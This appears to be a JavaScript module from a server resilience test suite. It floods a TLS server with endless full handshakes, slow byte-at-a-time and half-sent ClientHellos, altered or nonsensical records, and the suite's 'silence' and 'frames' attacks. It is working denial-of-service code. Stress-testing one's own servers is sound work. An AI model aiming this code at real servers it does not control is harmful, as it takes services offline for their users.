// Handshakes with a server that encrypts by itself: whole ones and none after them, half ones, a byte at a time, and what is none;
// and silence and floods of frames behind whole ones.

import { Duplex } from 'node:stream';
import { setTimeout } from 'node:timers/promises';
import tls from 'node:tls';

import { connect } from './connection.mjs';
import * as frames from './frames.mjs';
import * as silence from './silence.mjs';

export const title = 'handshakes, and silence and frames behind them';
// The server has a certificate of its own.
export const encrypted = true;
const NAME = 'localhost';
// As long, and no name.
const NO_NAME = 'no server';
// The end of the words with which a server begins, as a record.
const GREETED = Buffer.from([22, 3, 1, 0, 4, 14, 0, 0, 0]);
// Fewer than an address may have, so that each kind gets some.
const SILENT = 200;
const UNFINISHED = 100;
const WHOLE = 16;
const BYTE_EACH = 200;
const PAUSE = 20;

export async function attack(where) {
  const plain = { ...where, encrypted: false };
  const hello = await firstWords();
  const unnamed = Buffer.from(hello.toString('latin1').replace(NAME, NO_NAME), 'latin1');
  const nonsense = [GREETED, unnamed, `GET / HTTP/1.1\r\nHost: ${NAME}\r\n\r\n`];
  await Promise.all([
    silence.attack(where, SILENT),
    frames.attack(where),
    begin(plain, hello),
    ...Array.from({ length: WHOLE }, () => shake(where)),
    ...nonsense.map((said) => say(plain, said)),
  ]);
}

// What a client says first, which is one record.
function firstWords() {
  return new Promise((resolve) => {
    const wire = new Duplex({
      read() {},
      write(bytes, _, done) {
        resolve(bytes);
        done();
      },
    });
    tls.connect({ socket: wire, servername: NAME }).on('error', () => {});
  });
}

// Handshakes that are begun and not ended.
async function begin(where, hello) {
  const open = new Set();
  for (let each = 0; ; each++) {
    const socket = open.size < UNFINISHED ? await connect(where) : null;
    if (!socket) {
      await setTimeout(PAUSE);
      continue;
    }
    open.add(socket);
    socket.on('close', () => open.delete(socket)).resume();
    if (each % 2 === 0) {
      socket.write(hello.subarray(0, hello.length / 2));
    } else {
      let sent = 0;
      const sending = setInterval(() => socket.write(hello.subarray(sent, ++sent)), BYTE_EACH);
      socket.on('close', () => clearInterval(sending));
    }
  }
}

// One whole handshake after the other.
async function shake(where) {
  for (;;) {
    const socket = await connect(where);
    if (socket) socket.resume().end();
    else await setTimeout(PAUSE);
  }
}

async function say(where, said) {
  for (;;) {
    const socket = await connect(where);
    if (!socket) {
      await setTimeout(PAUSE);
      continue;
    }
    const closed = new Promise((resolve) => socket.once('close', resolve));
    socket.resume().write(said);
    await closed;
  }
}
